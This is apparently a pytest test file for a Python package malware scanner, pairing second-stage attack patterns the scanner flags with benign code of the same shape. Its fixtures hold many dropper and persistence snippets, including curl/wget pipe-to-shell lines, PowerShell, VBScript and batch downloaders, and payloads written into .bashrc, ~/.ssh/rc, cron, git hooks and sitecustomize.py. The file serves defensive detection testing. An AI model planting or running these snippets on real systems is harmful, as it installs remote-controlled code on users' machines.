"""Second stages (caplet._scan._sink_stages): the spellings a blind recall round (branch
blind8, issue 16 point 1) found missed, each with benign code of the same shape."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source
from tests._scan.prefilterkit import found_in_a_package, kept_by_the_prefilter


def danger(source: str, filename: str = "mod.py") -> set[str]:
    findings = scan_source(textwrap.dedent(source), filename, mode=ScanMode.PACKAGE)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


def anywhere(source: str) -> set[str]:
    """Package mode's DANGER and every rule of the whole-file pass (plugin mode): a near
    miss must be clean in both, since the prefilter may hide what the rules would say."""
    whole = scan_source(textwrap.dedent(source), "mod.py", mode=ScanMode.PLUGIN)
    return danger(source) | {f.rule_id for f in whole}


# -- a file written through its descriptor, then started -------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        """
        import os, subprocess, tempfile
        from urllib.request import urlopen
        data = urlopen(URL).read()
        fd, path = tempfile.mkstemp(suffix=".exe")
        os.write(fd, data)
        os.close(fd)
        subprocess.Popen([path])
        """,
        """
        import os, requests
        def fetch(target):
            fd = os.open(target, os.O_WRONLY | os.O_CREAT, 0o755)
            os.write(fd, requests.get(URL).content)
            os.close(fd)
            os.startfile(target)
        """,
    ],
)
def test_a_download_written_through_a_descriptor_and_started_is_a_threat(source: str) -> None:
    assert "CPL-THR-002" in danger(source)


def test_a_download_written_through_a_descriptor_and_not_started_is_not() -> None:
    source = """
    import os, subprocess, tempfile
    from urllib.request import urlopen
    data = urlopen(URL).read()
    fd, path = tempfile.mkstemp(suffix=".json")
    os.write(fd, data)
    os.close(fd)
    subprocess.run(["git", "status"])
    """
    assert "CPL-THR-002" not in anywhere(source)


# -- an archive unpacked into a folder, a program under it started ---------------------------


@pytest.mark.parametrize(
    "source",
    [
        """
        import io, os, subprocess, tempfile, zipfile, requests
        out = tempfile.mkdtemp()
        buf = io.BytesIO(requests.get(URL).content)
        with zipfile.ZipFile(buf) as z:
            z.extractall(out)
        exe = os.path.join(out, "bin", "helper.exe")
        subprocess.run([exe, "--silent"])
        """,
        """
        import os, shutil, subprocess
        from urllib.request import urlretrieve
        urlretrieve(URL, "/tmp/a.tgz")
        shutil.unpack_archive("/tmp/a.tgz", "/tmp/agent")
        subprocess.Popen([os.path.join("/tmp/agent", "run")])
        """,
    ],
)
def test_a_downloaded_archive_unpacked_and_a_program_under_it_started_is_a_threat(
    source: str,
) -> None:
    assert "CPL-THR-002" in danger(source)


def test_a_downloaded_archive_unpacked_and_another_program_started_is_not() -> None:
    source = """
    import io, os, subprocess, tempfile, zipfile, requests
    out = tempfile.mkdtemp()
    with zipfile.ZipFile(io.BytesIO(requests.get(URL).content)) as z:
        z.extractall(out)
    subprocess.run([os.path.join(TOOLS, "7z.exe"), "l", out])
    """
    assert "CPL-THR-002" not in anywhere(source)


# -- code stored in an attribute, run by another method --------------------------------------


def test_a_payload_handed_to_a_class_and_run_from_its_attribute_is_a_threat() -> None:
    payload = "".join(f"\\x{b:02x}" for b in b"import os\nos.system('curl -s x.example | sh')\n")
    source = f"""
    class _Telemetry:
        def __init__(self, payload):
            self._payload = payload

        def send(self):
            exec(self._payload)

    _Telemetry(b"{payload}").send()
    """
    assert {"CPL-THR-015", "CPL-THR-016"} <= danger(source)


def test_a_decoded_blob_stored_in_an_attribute_and_run_is_a_threat() -> None:
    source = """
    import base64
    class Loader:
        def load(self, blob):
            self.code = base64.b64decode(blob)
        def run(self):
            exec(self.code)
    """
    assert "CPL-THR-001" in danger(source)


def test_a_harmless_snippet_run_from_an_attribute_is_not_a_threat() -> None:
    source = """
    class Example:
        def __init__(self, code):
            self.code = code
        def check(self):
            exec(self.code, {})

    Example("x = 1 + 1").check()
    """
    assert not {"CPL-THR-015", "CPL-THR-016", "CPL-THR-001"} & anywhere(source)


# -- a command chosen by a test, its name bound in each branch -------------------------------


def test_a_download_cradle_picked_per_platform_is_run_text() -> None:
    source = """
    import os, platform, subprocess
    tmp = os.environ.get("TEMP", "/tmp")
    if platform.system() == "Windows":
        exe = tmp + "\\\\v.exe"
        cmd = (
            "powershell -c Invoke-WebRequest -Uri https://x.example/v -OutFile %s; "
            "Start-Process %s" % (exe, exe)
        )
    else:
        exe = tmp + "/.v"
        cmd = "curl -fsSL https://x.example/v -o %s && chmod +x %s && %s" % (exe, exe, exe)
    subprocess.Popen(cmd, shell=True)
    """
    assert "CPL-THR-015" in danger(source)


def test_a_command_picked_per_platform_without_a_download_is_not() -> None:
    source = """
    import os, platform, subprocess
    tmp = os.environ.get("TEMP", "/tmp")
    if platform.system() == "Windows":
        cmd = "dir %s" % tmp
    else:
        cmd = "curl --version && ls -la %s" % tmp
    subprocess.Popen(cmd, shell=True)
    """
    assert "CPL-THR-015" not in anywhere(source)


# -- recall10: a download's target named by a keyword -------------------------------------
_KEYWORD_TARGET = {
    # the URL and the .exe name computed, the target handed by keyword: clean both ways
    "urlretrieve-filename-system": """
    import os, urllib.request
    u = 'http://198.51.100.7/' + 'p'
    p = os.path.join(os.environ['TEMP'], 'svc.' + 'ex' + 'e')
    urllib.request.urlretrieve(u, filename=p)
    os.system(p)
    """,
    "urlretrieve-filename-startfile": """
    import os, urllib.request
    u = 'http://198.51.100.7/' + 'p'
    p = os.path.join(os.getenv('APPDATA'), os.path.basename(u) + '.exe')
    urllib.request.urlretrieve(u, filename=p)
    os.startfile(p)
    """,
    "wget-out": """
    import os, subprocess, tempfile, wget
    p = os.path.join(tempfile.gettempdir(), 'u' + 'pd.exe')
    wget.download('http://198.51.100.7/' + 'p', out=p)
    subprocess.Popen([p])
    """,
}


@pytest.mark.parametrize("shape", sorted(_KEYWORD_TARGET))
def test_a_download_whose_target_is_a_keyword_then_run_is_a_threat(
    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = textwrap.dedent(_KEYWORD_TARGET[shape])
    assert "CPL-THR-002" in danger(source)
    plugin = scan_source(source, "mod.py", mode=ScanMode.PLUGIN)
    assert "CPL-THR-002" in {f.rule_id for f in plugin if f.severity is Severity.DANGER}
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-002")


def test_a_download_kept_by_keyword_and_not_run_is_no_threat() -> None:
    source = textwrap.dedent(
        """
        import urllib.request, zipfile
        p = 'data' + '.zip'
        urllib.request.urlretrieve('https://example.org/d.zip', filename=p)
        zipfile.ZipFile(p).extractall('data')
        """
    )
    assert "CPL-THR-002" not in danger(source)


# -- blind13: start-up files and autostart locations written through pathlib ------------------

_STARTUP_WRITES = {
    "ipython-startup": """
    import os
    SNIP = "import urllib.request as u\\nexec(u.urlopen('http://198.51.100.90/j').read())\\n"
    d = os.path.join(os.path.expanduser("~"), ".ipython", "profile_default", "startup")
    with open(os.path.join(d, "00-x.py"), "w") as f:
        f.write(SNIP)
    """,
    "sitecustomize-pathlib": """
    import site
    from pathlib import Path
    code = "import os\\nos.system('curl -s http://203.0.113.4/a | sh')\\n"
    (Path(site.getsitepackages()[0]) / "sitecustomize.py").write_text(code)
    """,
}


@pytest.mark.parametrize("shape", sorted(_STARTUP_WRITES))
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_code_written_into_a_python_start_up_file_is_run(shape: str, mode: ScanMode) -> None:
    source = textwrap.dedent(_STARTUP_WRITES[shape])
    found = {f.rule_id for f in scan_source(source, "mod.py", mode=mode)}
    assert "CPL-THR-016" in found or "CPL-THR-015" in found


@pytest.mark.parametrize("shape", sorted(_STARTUP_WRITES))
def test_the_prefilter_keeps_a_start_up_file_written(
    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = textwrap.dedent(_STARTUP_WRITES[shape])
    rule = "CPL-THR-016" if shape == "ipython-startup" else "CPL-THR-015"
    found_in_a_package(tmp_path, monkeypatch, source, rule)


def test_a_start_up_file_written_without_a_threat_is_none() -> None:
    # IPython's own profile set-up writes harmless start-up code; a script elsewhere with
    # the same text is no start-up file
    source = """
    import os
    from pathlib import Path
    d = Path.home() / ".ipython" / "profile_default" / "startup"
    (d / "00-imports.py").write_text("import numpy as np\\nimport pandas as pd\\n")
    with open(os.path.join("build", "fetch.py"), "w") as f:
        f.write("import urllib.request as u\\nexec(u.urlopen('http://198.51.100.90/j').read())\\n")
    """
    assert {r for r in anywhere(source) if r.startswith("CPL-THR")} == set()


_AUTOSTART_PATHLIB = """
import subprocess
from pathlib import Path
unit = Path.home() / ".config" / "systemd" / "user" / "helper.service"
unit.write_text("[Service]\\nExecStart=/usr/bin/helper\\n")
subprocess.run(["systemctl", "--user", "enable", unit.name])
"""


@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_an_autostart_location_written_through_pathlib_is_persistence(mode: ScanMode) -> None:
    found = scan_source(_AUTOSTART_PATHLIB, "mod.py", mode=mode)
    assert "CPL-THR-009" in {f.rule_id for f in found if f.severity is Severity.DANGER}


def test_the_prefilter_keeps_an_autostart_location_written_through_pathlib(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    found_in_a_package(tmp_path, monkeypatch, _AUTOSTART_PATHLIB, "CPL-THR-009")


def test_a_config_folder_written_through_pathlib_is_no_persistence() -> None:
    source = """
    from pathlib import Path
    cfg = Path.home() / ".config" / "mytool" / "user" / "settings.toml"
    cfg.write_text("[core]\\n")
    (Path.home() / ".config" / "systemd").mkdir(exist_ok=True)
    """
    assert "CPL-THR-009" not in anywhere(source)


def test_a_completion_installer_writing_the_shell_start_up_file_is_no_persistence() -> None:
    # typer's _completion_shared.install_bash and cyclopts' completion installer (the
    # benign corpus): a `source` line appended to ~/.bashrc through pathlib
    source = """
    from pathlib import Path
    def install_bash(prog_name, script_content):
        completion_path = Path.home() / ".bash_completions" / f"{prog_name}.sh"
        rc_path = Path.home() / ".bashrc"
        rc_content = rc_path.read_text() if rc_path.is_file() else ""
        rc_content += f"\\nsource '{completion_path}'\\n"
        rc_path.write_text(rc_content)
        completion_path.write_text(script_content)
    """
    assert "CPL-THR-009" not in anywhere(source)


# -- blind13: a download copied by shutil.copyfileobj; a program found by a glob ------------

_COPIED_OR_GLOBBED = {
    "copyfileobj": """
    import os, shutil, urllib.request
    p = os.path.join(os.environ["TEMP"], "upd.exe")
    with urllib.request.urlopen("http://203.0.113.66/e.bin") as r, open(p, "wb") as f:
        shutil.copyfileobj(r, f)
    os.startfile(p)
    """,
    "glob-under-extracted": """
    import glob, io, os, subprocess, zipfile, requests
    d = os.path.join(os.getenv("TEMP", "/tmp"), "hk")
    zipfile.ZipFile(io.BytesIO(requests.get("https://files.example/p.zip").content)).extractall(d)
    for exe in glob.glob(os.path.join(d, "*.exe")):
        subprocess.Popen([exe], cwd=d)
    """,
}


@pytest.mark.parametrize("shape", sorted(_COPIED_OR_GLOBBED))
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_a_download_copied_or_unpacked_then_started_is_a_threat(shape: str, mode: ScanMode) -> None:
    found = scan_source(textwrap.dedent(_COPIED_OR_GLOBBED[shape]), "mod.py", mode=mode)
    assert "CPL-THR-002" in {f.rule_id for f in found if f.severity is Severity.DANGER}


@pytest.mark.parametrize("shape", sorted(_COPIED_OR_GLOBBED))
def test_the_prefilter_keeps_a_download_copied_or_unpacked_then_started(
    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = textwrap.dedent(_COPIED_OR_GLOBBED[shape])
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-002")


def test_a_download_copied_and_a_packaged_program_globbed_are_not() -> None:
    # a download copied into a data file that is never started, and the package's own
    # programs found by a glob and run (the archive unpacked elsewhere)
    source = """
    import glob, os, shutil, subprocess, urllib.request, zipfile
    with urllib.request.urlopen("https://example.org/data.json") as r, open("d.json", "wb") as f:
        shutil.copyfileobj(r, f)
    zipfile.ZipFile("docs.zip").extractall("build/docs")
    for tool in glob.glob(os.path.join(os.path.dirname(__file__), "bin", "*")):
        subprocess.run([tool, "--version"])
    """
    assert {r for r in anywhere(source) if r.startswith("CPL-THR")} == set()


_STARTUP_FILLED = {
    "copied": """
    import os, shutil, site
    here = os.path.dirname(__file__)
    dest = os.path.join(site.getusersitepackages(), "usercustomize.py")
    shutil.copy(os.path.join(here, "_hook.py"), dest)
    """,
    "read-elsewhere": """
    import os, site
    hook = open(os.path.join(os.path.dirname(__file__), "hook.txt")).read()
    with open(os.path.join(site.getsitepackages()[0], "sitecustomize.py"), "w") as f:
        f.write(hook)
    """,
}


@pytest.mark.parametrize("shape", sorted(_STARTUP_FILLED))
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_a_start_up_file_filled_with_what_the_code_does_not_show_is_persistence(
    shape: str, mode: ScanMode
) -> None:
    found = scan_source(textwrap.dedent(_STARTUP_FILLED[shape]), "mod.py", mode=mode)
    assert "CPL-THR-009" in {f.rule_id for f in found if f.severity is Severity.DANGER}


@pytest.mark.parametrize("shape", sorted(_STARTUP_FILLED))
def test_the_prefilter_keeps_a_start_up_file_filled(
    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = textwrap.dedent(_STARTUP_FILLED[shape])
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-009")


def test_a_start_up_file_built_at_run_time_is_no_persistence() -> None:
    # pip's build environment and setuptools' tests (the benign corpus): a sitecustomize.py
    # that adds a site directory, its text formatted at run time
    source = """
    import os, textwrap
    def make_site_dir(target, site_dir):
        with open(os.path.join(target, "sitecustomize.py"), "w", encoding="utf-8") as fp:
            fp.write(textwrap.dedent('import site\\nsite.addsitedir({d!r})\\n').format(d=site_dir))
        tmpl = '__import__("site").addsitedir({target!r})'
        (target / "usercustomize.py").write_text(tmpl.format(target=str(target)))
    """
    assert "CPL-THR-009" not in anywhere(source)


def test_a_start_up_file_written_with_harmless_text_is_no_persistence() -> None:
    source = """
    import os, site
    with open(os.path.join(site.getsitepackages()[0], "sitecustomize.py"), "w") as f:
        f.write("import sys\\nsys.dont_write_bytecode = True\\n")
    """
    assert "CPL-THR-009" not in anywhere(source)


# -- blind14: a script of another language kept in a string, written and started -------------

_SCRIPT_WRITTEN = {
    "vbs-wscript-exe": """
    import os, subprocess, tempfile
    VBS = ('Set o = CreateObject("MSXML2.XMLHTTP")\\n'
           'o.Open "GET", "http://198.51.100.201/p", False\\n'
           'o.Send\\n'
           'CreateObject("WScript.Shell").Run "cmd /c %TEMP%\\\\p.exe", 0\\n')
    p = os.path.join(tempfile.gettempdir(), "p.vbs")
    with open(p, "w") as fh:
        fh.write(VBS)
    subprocess.Popen(["wscript.exe", "//B", p])
    """,
    "batch-cmd-c": """
    import os, subprocess
    BAT = ('@echo off\\r\\ncurl -s -o "%TEMP%\\\\u.exe" http://198.51.100.9/u.exe\\r\\n'
           'start "" /b "%TEMP%\\\\u.exe"\\r\\n')
    p = os.path.join(os.environ["TEMP"], "u.cmd")
    with open(p, "w") as fh:
        fh.write(BAT)
    subprocess.call(["cmd.exe", "/c", p])
    """,
}


@pytest.mark.parametrize("shape", sorted(_SCRIPT_WRITTEN))
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_a_script_dropper_kept_in_a_string_written_and_started_is_a_threat(
    shape: str, mode: ScanMode
) -> None:
    found = scan_source(textwrap.dedent(_SCRIPT_WRITTEN[shape]), "mod.py", mode=mode)
    assert "CPL-THR-015" in {f.rule_id for f in found if f.severity is Severity.DANGER}


@pytest.mark.parametrize("shape", sorted(_SCRIPT_WRITTEN))
def test_the_prefilter_keeps_a_script_dropper_written_and_started(
    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = textwrap.dedent(_SCRIPT_WRITTEN[shape])
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-015")


def test_a_script_written_and_started_that_fetches_nothing_is_no_threat() -> None:
    # a build helper writing a batch file that calls the compiler, and a VBScript that
    # shows a message box: started, but neither downloads anything
    source = """
    import os, subprocess, tempfile
    p = os.path.join(tempfile.gettempdir(), "build.cmd")
    with open(p, "w") as fh:
        fh.write('@echo off\\r\\ncall "%VCVARS%" x64\\r\\ncl /c module.c\\r\\n')
    subprocess.check_call(["cmd.exe", "/c", p])
    v = os.path.join(tempfile.gettempdir(), "msg.vbs")
    with open(v, "w") as fh:
        fh.write('CreateObject("WScript.Shell").Popup "Build done", 5\\n')
    subprocess.call(["wscript.exe", "//B", v])
    """
    assert {r for r in anywhere(source) if r.startswith("CPL-THR")} == set()


# -- blind14: a download-and-run line put into a shell's start-up file or a cron job ----------

_COMMAND_PERSISTED = {
    "rc-pathlib-loop": """
    from pathlib import Path
    LINE = "\\n( curl -fsSL http://198.51.100.23/i.sh | sh ) >/dev/null 2>&1 &\\n"
    for rc in (".bashrc", ".zshrc"):
        p = Path.home() / rc
        with p.open("a") as fh:
            fh.write(LINE)
    """,
    "rc-path-open": """
    from pathlib import Path
    with (Path.home() / ".profile").open("a") as fh:
        fh.write("wget -qO- http://198.51.100.24/p | bash\\n")
    """,
    # blind17 (tune b17-ot-ssh-rc-persist): sshd runs ~/.ssh/rc at every login
    "ssh-rc-join": """
    import os
    rc = os.path.join(os.path.expanduser("~"), ".ssh", "rc")
    with open(rc, "a") as fh:
        fh.write("(curl -fsSL https://t.example/k | sh >/dev/null 2>&1 &)\\n")
    """,
    "ssh-rc-pathlib": """
    from pathlib import Path
    (Path.home() / ".ssh" / "rc").write_text("wget -qO- http://198.51.100.26/r | sh &\\n")
    """,
    "python-crontab": """
    from crontab import CronTab
    cron = CronTab(user=True)
    job = cron.new(command="curl -s http://198.51.100.25/c | sh", comment="upd")
    job.every_reboot()
    cron.write()
    """,
}


@pytest.mark.parametrize("shape", sorted(_COMMAND_PERSISTED))
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_a_download_run_by_every_shell_or_by_cron_is_a_threat(shape: str, mode: ScanMode) -> None:
    found = scan_source(textwrap.dedent(_COMMAND_PERSISTED[shape]), "mod.py", mode=mode)
    assert "CPL-THR-015" in {f.rule_id for f in found if f.severity is Severity.DANGER}


@pytest.mark.parametrize("shape", sorted(_COMMAND_PERSISTED))
def test_the_prefilter_keeps_a_download_persisted_as_a_command(
    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = textwrap.dedent(_COMMAND_PERSISTED[shape])
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-015")


def test_a_completion_line_or_a_local_cron_job_is_no_threat() -> None:
    # a completion installer's source line appended through Path.open, a backup job that
    # runs a local program, and a download kept as data by a cron job
    source = """
    import os
    from pathlib import Path
    from crontab import CronTab
    for rc in (".bashrc", ".zshrc"):
        with (Path.home() / rc).open("a") as fh:
            fh.write("\\nsource ~/.local/share/mytool/completion.sh\\n")
    cron = CronTab(user=True)
    cron.new(command="/usr/local/bin/backup --quiet", comment="backup").setall("0 3 * * *")
    cron.new(command="curl -s -o /var/tmp/feed.xml https://example.org/feed.xml")
    cron.write()
    # ~/.ssh/rc setting up X11 forwarding, as sshd's manual shows (blind17)
    with open(os.path.expanduser("~/.ssh/rc"), "w") as fh:
        fh.write("if read proto cookie && [ -n \\"$DISPLAY\\" ]; then\\n"
                 "  xauth -q add unix:0 $proto $cookie\\nfi\\n")
    """
    assert {r for r in anywhere(source) if r.startswith("CPL-THR")} == set()


#: blind15 (tune b15-ot-jupyter-config-append, -git-hook-persist): files other programs
#: run as code without importing them by name: a Jupyter server's or IPython's own
#: configuration (Python run at every start), a git hook (run at every checkout or
#: commit, wherever `core.hooksPath` points); written with a download that runs.
RUN_BY_OTHERS = [
    "from pathlib import Path\n"
    "cfg = Path.home() / '.jupyter' / 'jupyter_server_config.py'\n"
    "with cfg.open('a') as fh:\n"
    '    fh.write(\'import urllib.request\\nexec(urllib.request.urlopen("https://x.example/p")'
    ".read())\\n')\n",
    "import os\n"
    "p = os.path.expanduser('~/.ipython/profile_default/ipython_config.py')\n"
    "open(p, 'a').write('import os\\nos.system(\"curl -s https://x.example/s | sh\")\\n')\n",
    "from pathlib import Path\n"
    "hook = Path.home() / '.config' / 'git-hooks' / 'post-checkout'\n"
    "hook.write_text('#!/bin/sh\\ncurl -s https://x.example/h | sh\\n')\n",
    "open('.git/hooks/pre-commit', 'w')"
    ".write('#!/bin/sh\\nwget -qO- https://x.example/h | bash\\n')\n",
]


@pytest.mark.parametrize("source", RUN_BY_OTHERS)
def test_a_download_written_into_a_file_another_program_runs_is_a_threat(source: str) -> None:
    assert danger(source)


@pytest.mark.parametrize("source", RUN_BY_OTHERS)
def test_files_other_programs_run_are_found_with_the_prefilter_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    kept_by_the_prefilter(tmp_path, monkeypatch, source)


@pytest.mark.parametrize(
    "source",
    [
        # pre-commit installing its hook: the script runs pre-commit, downloads nothing
        "open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\nexec pre-commit run \"$@\"\\n')\n",
        # a Jupyter extension enabling itself in the user's configuration
        "from pathlib import Path\n"
        "cfg = Path.home() / '.jupyter' / 'jupyter_server_config.py'\n"
        "cfg.write_text(\"c.ServerApp.jpserver_extensions = {'myext': True}\\n\")\n",
    ],
)
def test_configuration_and_hooks_that_download_nothing_are_not_threats(source: str) -> None:
    assert not danger(source)


# -- blind16: a program fetched over SFTP and started ------------------------------------------

SFTP_RUNS = [
    "import os, subprocess, tempfile, paramiko\n"
    "t = paramiko.Transport(('192.0.2.44', 22))\nt.connect(username='u', password='p')\n"
    "s = paramiko.SFTPClient.from_transport(t)\n"
    "dst = os.path.join(tempfile.gettempdir(), 'helper')\n"
    "s.get('/srv/bin/helper', dst)\nos.chmod(dst, 0o755)\nsubprocess.Popen([dst])\n",
    "import os, subprocess, paramiko\np = os.path.expanduser('~/.cache/agent')\n"
    "c = paramiko.SSHClient()\nc.connect('sftp.x.example', username='u')\n"
    "c.open_sftp().get('/bin/agent', p)\nos.chmod(p, 0o700)\nsubprocess.Popen([p])\n",
]


@pytest.mark.parametrize("source", SFTP_RUNS)
def test_a_program_fetched_over_sftp_and_started_is_a_download_run(source: str) -> None:
    assert "CPL-THR-002" in danger(source)


@pytest.mark.parametrize("source", SFTP_RUNS)
def test_a_program_fetched_over_sftp_is_found_with_the_prefilter_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-002")


def test_a_file_fetched_over_sftp_and_read_is_not_a_download_run() -> None:
    source = (
        "import paramiko\nc = paramiko.SSHClient()\nc.connect('backup.example.org')\n"
        "s = c.open_sftp()\ns.get('/var/backups/db.sql', 'db.sql')\n"
        "print(open('db.sql').read()[:80])\n"
    )
    assert "CPL-THR-002" not in danger(source)


# -- blind17: code a library reads out of a downloaded file (b17-np-judyb-lsb-reveal) ---------

_READ_BY_A_LIBRARY = [
    "import os, tempfile, urllib.request\nfrom judyb import lsb\n"
    "p = os.path.join(tempfile.gettempdir(), 'palette.png')\n"
    "urllib.request.urlretrieve('https://i.example/DEFANGED.png', p)\nexec(lsb.reveal(p))\n",
    "import urllib.request\nfrom stegano import exifHeader\n"
    "urllib.request.urlretrieve('https://cdn.example/a.jpg', filename='a.jpg')\n"
    "exec(exifHeader.reveal('a.jpg'))\n",
]


@pytest.mark.parametrize("source", _READ_BY_A_LIBRARY)
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_code_a_library_reads_out_of_a_downloaded_file_is_downloaded_code(
    source: str, mode: ScanMode
) -> None:
    found = scan_source(source, "mod.py", mode=mode)
    assert "CPL-THR-002" in {f.rule_id for f in found if f.severity is Severity.DANGER}


@pytest.mark.parametrize("source", _READ_BY_A_LIBRARY)
def test_the_prefilter_keeps_code_read_out_of_a_downloaded_file(
    source: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-002")


def test_a_library_reading_a_file_no_download_wrote_is_no_threat() -> None:
    # a downloaded data file read by a library, and exec of what other files hold
    source = """
    import json, urllib.request
    import pandas as pd
    urllib.request.urlretrieve("https://data.example.org/d.csv", "d.csv")
    print(pd.read_csv("d.csv"))
    exec(json.load(open("conf.json"))["snippet"])
    exec(compile(open("setup_helpers.py").read(), "setup_helpers.py", "exec"))
    exec(helpers.render("template.j2"))
    """
    assert {r for r in anywhere(source) if r.startswith("CPL-THR")} == set()


# -- recall18: a downloaded file's text bound to a name, then run ---------------------------


@pytest.mark.parametrize(
    "source",
    [
        "import pathlib, urllib.request\np = pathlib.Path('/tmp/x.py')\n"
        "p.write_bytes(urllib.request.urlopen('https://cdn.example/x.py').read())\n"
        "code = p.read_text()\nexec(code)\n",
        "import requests\nopen('/tmp/x.py', 'wb').write(requests.get('https://cdn.example/x').content)\n"
        "src = open('/tmp/x.py').read()\nexec(compile(src, 'x', 'exec'))\n",
    ],
)
def test_a_downloaded_files_text_bound_to_a_name_and_run_is_a_stage(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    assert "CPL-THR-002" in danger(source)
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-002")


@pytest.mark.parametrize(
    "source",
    [
        # the package's own file read into a name and run, beside a download saved
        "import pathlib, requests\nHERE = pathlib.Path(__file__).parent\n"
        "code = (HERE / '_version.py').read_text()\nexec(code)\n"
        "pathlib.Path('/tmp/cache.json').write_bytes(requests.get('https://api.example/c').content)\n",
        # a name bound twice: which read is run is not known
        "import pathlib, requests\np = pathlib.Path('/tmp/x.py')\n"
        "p.write_bytes(requests.get('https://cdn.example/x').content)\n"
        "code = 'print(1)'\ncode = pathlib.Path('local.py').read_text()\nexec(code)\n",
    ],
)
def test_a_name_bound_to_another_files_text_stays_clean(source: str) -> None:
    assert "CPL-THR-002" not in danger(source)


# -- blind19: a download saved by curl or wget to a computed path, then started ---------------


@pytest.mark.parametrize(
    "source",
    [
        "import os, subprocess, tempfile, uuid\n"
        "dst = os.path.join(tempfile.gettempdir(), '.' + uuid.uuid4().hex)\n"
        "subprocess.run(['curl', '-sL', 'http://203.0.113.41/x86_64', '-o', dst])\n"
        "os.chmod(dst, 0o755)\nsubprocess.Popen([dst], start_new_session=True)\n",
        "import os, subprocess\n"
        "exe = os.path.join(os.getenv('APPDATA'), 'svc.exe')\n"
        "cmd = ['wget.exe', '-q', '--output-document', exe, 'https://x.blind19.example/a']\n"
        "subprocess.call(cmd)\nos.startfile(exe)\n",
        "import os, subprocess, tempfile, uuid\n"
        "dst = os.path.join(tempfile.gettempdir(), uuid.uuid4().hex)\n"
        "os.system(f'curl -sL http://203.0.113.41/x -o {dst}')\nsubprocess.Popen([dst])\n",
    ],
    ids=["curl-uuid-path", "wget-appdata-list-name", "curl-shell-fstring"],
)
def test_a_download_saved_by_curl_or_wget_and_started_is_a_downloaded_stage(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    assert "CPL-THR-002" in danger(source)
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-002")


@pytest.mark.parametrize(
    "source",
    [
        # the download is read as data, not started
        "import json, os, subprocess, tempfile\n"
        "dst = os.path.join(tempfile.gettempdir(), 'index.json')\n"
        "subprocess.run(['curl', '-sL', 'https://pypi.org/simple/', '-o', dst])\n"
        "print(json.load(open(dst)))\n",
        # curl -O keeps the URL's name: the word after it is the URL, not a path
        "import subprocess\nsubprocess.run(['curl', '-O', 'https://example.org/tool.tar.gz'])\n"
        "subprocess.run(['tar', 'xf', 'tool.tar.gz'])\n",
    ],
    ids=["read-not-run", "curl-remote-name"],
)
def test_a_download_saved_by_curl_and_not_started_is_clean(source: str) -> None:
    assert "CPL-THR-002" not in anywhere(source)
